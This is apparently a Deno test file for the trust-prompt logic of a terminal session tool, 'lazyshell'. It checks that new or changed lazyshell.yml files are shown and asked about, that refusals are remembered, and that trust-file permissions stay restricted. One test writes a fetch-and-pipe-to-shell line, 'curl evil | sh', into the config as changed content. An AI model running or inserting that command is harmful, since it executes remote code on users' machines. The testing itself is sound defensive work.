import assert from "node:assert/strict";
import { UserError } from "../errors.ts";
import { approveProject } from "./project_trust.ts";

function lab() {
  const dir = Deno.makeTempDirSync({ prefix: "lzs-trust-" });
  const file = `${dir}/lazyshell.yml`;
  Deno.writeTextFileSync(
    file,
    "sessions:\n  - name: api\n    command: npm run dev\n    env: { PORT: 1 }\n",
  );
  const env = { HOME: dir, XDG_STATE_HOME: `${dir}/state` };
  const asked: string[] = [];
  const answer = (yes: boolean) => (summary: string) => (asked.push(summary), yes);
  return {
    dir,
    file,
    asked,
    approve: (ask: ((s: string) => boolean) | null, more: { yes?: boolean; file?: string } = {}) =>
      approveProject({ cwd: dir, env, ask, ...more }),
    answer,
    [Symbol.dispose]: () => Deno.removeSync(dir, { recursive: true }),
  };
}

Deno.test("approveProject() asks once about a new ./lazyshell.yml, showing what it runs", () => {
  using l = lab();
  const first = l.approve(l.answer(true));
  assert.equal(first.project?.sessions[0]?.name, "api");
  assert.deepEqual(l.asked, [
    `${l.file} is new or changed here. It starts:\n  api  npm run dev  in ${l.dir}  with PORT`,
  ]);
  assert.ok(l.approve(l.answer(false)).project, "a trusted file is not asked about again");
  assert.equal(l.asked.length, 1);
  Deno.writeTextFileSync(l.file, "sessions:\n  - name: api\n    command: curl evil | sh\n");
  assert.equal(l.approve(l.answer(false)).project, null, "changed content is asked about again");
  assert.equal(l.asked.length, 2);
});

Deno.test("approveProject(): a no is remembered, starts nothing and says how to trust", () => {
  using l = lab();
  const no = l.approve(l.answer(false));
  assert.equal(no.project, null);
  assert.match(no.note!, /^Not started: .*lazyshell\.yml \(review it, then `lazyshell trust /);
  const later = l.approve(l.answer(true));
  assert.equal(later.project, null);
  assert.equal(l.asked.length, 1);
  assert.match(later.note!, /you said no/);
  assert.throws(
    () => l.approve(null),
    (e) => e instanceof UserError && /you said no/.test(e.message),
  );
});

Deno.test("approveProject(): nobody to ask refuses; --yes and an explicit --project start", () => {
  using l = lab();
  assert.throws(
    () => l.approve(null),
    (e) => e instanceof UserError && e.message.includes(`lazyshell trust ${l.file}`),
  );
  assert.ok(l.approve(null, { file: "lazyshell.yml" }).project, "--project FILE is trusted");
  assert.throws(() => l.approve(null), UserError, "--project does not record trust");
  assert.ok(l.approve(null, { yes: true }).project);
  assert.ok(l.approve(null).project, "--yes is remembered");
  assert.equal(l.asked.length, 0);
  assert.equal(Deno.statSync(`${l.dir}/state/lazyshell`).mode! & 0o777, 0o700);
  assert.equal(Deno.statSync(`${l.dir}/state/lazyshell/trust.json`).mode! & 0o777, 0o600);
});

Deno.test("approveProject(): no project file, nothing to ask", () => {
  using l = lab();
  Deno.removeSync(l.file);
  assert.deepEqual(l.approve(null), { project: null, note: null });
});
